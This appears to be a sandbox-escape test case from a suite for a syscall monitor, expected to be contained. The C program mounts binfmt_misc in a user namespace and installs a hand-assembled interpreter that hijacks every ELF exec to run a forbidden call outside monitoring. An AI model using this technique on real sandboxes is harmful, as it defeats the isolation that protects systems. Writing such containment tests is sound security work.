/* attack
class: lifetime
aim: call
tries: a program of its own that the kernel runs in place of every ELF file, the monitor's own loader too
expect: { none: contained, mpk: contained }
*/
/* With binfmt_misc, which a user namespace may mount for itself (since Linux 6.7), every program is run by an interpreter of the attacker's choice. Then an exec, by
   which the monitor starts its loader anew, starts that: outside of any monitor, and with the environment that was meant for the loader. */
#include "small-elf.h"
#include <sys/mount.h>

/* Finds what the loader was to be given, and makes the forbidden call with it, or without it where there is none. */
__asm__(".pushsection .rodata\n"
        "interpreter: mov (%rsp), %rcx\n lea 16(%rsp,%rcx,8), %rbx\n xor %r9d, %r9d\n"
        "1: mov (%rbx), %rsi\n add $8, %rbx\n test %rsi, %rsi\n jz 4f\n"
        "movabs $0x44524155474e4f4d, %rax\n cmp %rax, (%rsi)\n jne 1b\n" /* MONGUARD */
        "movabs $0x4c4942415041435f, %rax\n cmp %rax, 8(%rsi)\n jne 1b\n" /* _CAPABIL */
        "add $20, %rsi\n"
        "2: movzbl (%rsi), %eax\n inc %rsi\n cmp $'x', %al\n je 2b\n sub $'0', %al\n jc 4f\n cmp $10, %al\n jc 3f\n sub $0x27, %al\n cmp $10, %al\n jc 4f\n cmp $16, %al\n jnc 4f\n"
        "3: shl $4, %r9\n or %rax, %r9\n jmp 2b\n"
        "4: mov $83, %eax\n lea name(%rip), %rdi\n mov $0755, %esi\n syscall\n mov $60, %eax\n xor %edi, %edi\n syscall\n"
        "name: .asciz \"" FORBIDDEN "\"\n"
        "interpreter_end: .popsection\n");
extern const unsigned char interpreter[], interpreter_end[];

static void write_text(const char *path, const char *text) {
    int fd = open(path, O_WRONLY);
    if (fd < 0 || write(fd, text, strlen(text)) < 0) printf("%s: %s\n", path, strerror(errno));
    if (fd >= 0) close(fd);
}

int main(void) {
    static unsigned char file[0x400];
    char text[512], here[256];
    make_small_elf();
    memcpy(file, small_elf, 0x80);
    ((Elf64_Phdr *)(file + sizeof(Elf64_Ehdr)))->p_filesz = ((Elf64_Phdr *)(file + sizeof(Elf64_Ehdr)))->p_memsz = sizeof file;
    file[EI_OSABI] = ELFOSABI_GNU; /* which its own rule does not match */
    memcpy(file + 0x80, interpreter, (size_t)(interpreter_end - interpreter));
    int fd = open("own", O_WRONLY | O_CREAT, 0700);
    if (write(fd, file, sizeof file) != sizeof file || !getcwd(here, sizeof here)) return 1;
    close(fd);

    unsigned user = getuid(), group = getgid();
    if (unshare(CLONE_NEWUSER | CLONE_NEWNS)) not_here("no user namespaces here");
    snprintf(text, sizeof text, "0 %u 1", user);
    write_text("/proc/self/uid_map", text);
    write_text("/proc/self/setgroups", "deny");
    snprintf(text, sizeof text, "0 %u 1", group);
    write_text("/proc/self/gid_map", text);
    mkdir("formats", 0700);
    if (mount("binfmt_misc", "formats", "binfmt_misc", 0, NULL)) not_here("a user namespace has no formats of its own here");
    snprintf(text, sizeof text, ":own:M:0:\\x7fELF\\x02\\x01\\x01\\x00::%s/own:", here);
    write_text("formats/register", text);
    pid_t child = fork();
    if (child == 0) {
        execl("/bin/true", "true", NULL);
        _exit(1);
    }
    waitpid(child, NULL, 0);
    verdict_of_folder();
}
